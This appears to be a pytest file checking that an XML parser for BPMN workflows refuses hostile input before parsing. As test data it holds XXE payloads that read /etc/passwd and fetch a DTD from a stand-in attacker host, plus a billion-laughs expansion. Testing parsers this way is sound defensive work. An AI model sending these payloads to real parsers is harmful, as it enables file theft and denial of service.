"""Hostile XML is refused before any BPMN parser sees it."""

import pytest

from workflows.xmlsafe import XmlRejected, parse_xml

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&x;</definitions>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/evil.dtd"> %p;]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&lol3;</definitions>"""


@pytest.mark.parametrize("content", [XXE_FILE, XXE_NETWORK, BILLION_LAUGHS])
def test_doctype_and_entities_are_refused(content):
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert info.value.key == "xml.doctype_forbidden"
    assert info.value.line == 2


def test_file_over_the_limit_is_refused_before_parsing():
    content = b"<a>" + b"x" * (50 * 1024 * 1024) + b"</a>"
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert info.value.key == "file.too_large"


def test_not_xml_reports_the_line():
    with pytest.raises(XmlRejected) as info:
        parse_xml(b"<definitions>\n<process>\n</definitions>")
    assert info.value.key == "xml.syntax"
    assert info.value.line == 3


def test_very_deep_nesting_is_refused():
    depth = 300
    content = b"<a>" * depth + b"</a>" * depth
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert info.value.key == "xml.syntax"


def test_plain_xml_parses():
    tree = parse_xml(
        b'<?xml version="1.0" encoding="UTF-8"?><definitions id="d"><!-- c --></definitions>'
    )
    assert tree.getroot().get("id") == "d"
